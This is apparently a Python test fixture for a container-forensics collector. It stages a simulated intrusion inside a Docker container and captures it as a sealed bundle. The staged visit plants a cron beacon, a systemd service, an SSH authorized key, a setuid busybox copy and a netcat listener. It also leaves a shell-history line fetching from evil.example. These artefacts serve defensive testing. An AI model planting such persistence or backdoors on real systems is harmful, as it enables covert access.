"""A container that somebody was in, and a sealed capture of it: what other people's readers open.

with captured_visit(Path("/tmp/x")) as case:
    print(case.bundle, case.public_key)
"""

from __future__ import annotations

import os
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import anyio

from collector.local import ARTIFACTS, CaptureOptions, capture_container
from forensics_core.api.order import ArtifactKind
from forensics_core.seals import generate_key, seal_bundle
from lab.docker import Engine, docker_engine
from lab.images import busybox_rootfs

CONTAINER = "web"
SECRET = "c0ffee-of-the-visit"  # noqa: S105 - to be looked for
"""In the environment of a process, in a file, and so in memory."""
PORT = 4747
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKHEChAwTGLXmBKkYTVkmUxFEAG3TIJp5IA4ntLkD7a6"
_FILES = {
    "etc/os-release": 'ID=debian\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n',
    "etc/debian_version": "12.1\n",
    "etc/crontab": "*/5 * * * * root /tmp/.x/beacon\n",
    "etc/systemd/system/beacon.service": "[Unit]\nDescription=Beacon\n[Service]\nExecStart=/tmp/b\n",
    "root/.ssh/authorized_keys": f"{KEY} visitor\n",
    "root/.bash_history": "id\ncurl http://evil.example/x\n",
    "etc/os-note": SECRET,
    "var/lib/dpkg/status": (
        "Package: openssl\nStatus: install ok installed\nVersion: 3.0.9-1\n"
        "Architecture: amd64\nSource: openssl\nMaintainer: x <x@x>\nDescription: x\n\n"
    ),
}
_VISIT = f"""
export STOLEN={SECRET}
mkdir -p /tmp/.x /root/.ssh && cp /bin/busybox /tmp/.x/sleep && chmod 4755 /tmp/.x/sleep
printf 'note of the visitor\\n' > /dev/shm/note
truncate -s 8M /srv/holes && printf end >> /srv/holes
ln -s / /srv/everything
/tmp/.x/sleep 474747 &
rm /tmp/.x/sleep
nc -l -p {PORT} &
until netstat -ltn | grep -q {PORT}; do sleep 0.1; done
touch /tmp/ready
exec sleep 4747
"""


@dataclass(frozen=True)
class Case:
    """A sealed bundle in a folder."""

    bundle: Path
    public_key: Path

    @property
    def container(self) -> Path:
        """The folder of the container."""
        return self.bundle / "containers" / CONTAINER


@contextmanager
def captured_visit(folder: Path) -> Iterator[Case]:
    """Let somebody into a container, and capture it, sealed. Needs root and a Docker Engine."""
    yield anyio.run(_capture, folder)


async def _capture(folder: Path) -> Case:
    rootfs = busybox_rootfs(folder / "rootfs")
    for name, text in _FILES.items():
        (rootfs / name).parent.mkdir(parents=True, exist_ok=True)
        (rootfs / name).write_text(text)
    async with docker_engine() as engine:
        image = await engine.import_image(rootfs)
        command = ("/bin/sh", "-c", _VISIT)
        name = f"{CONTAINER}-{engine.run_id}"
        async with engine.container(image, command, name=name, tmpfs={"/run": ""}) as container:
            await _ready(engine, container)
            bundle = await _collect(engine, container, folder)
    private, public = generate_key()
    (folder / "forensics.pub").write_bytes(public)
    await seal_bundle(str(bundle), private)
    return Case(bundle, folder / "forensics.pub")
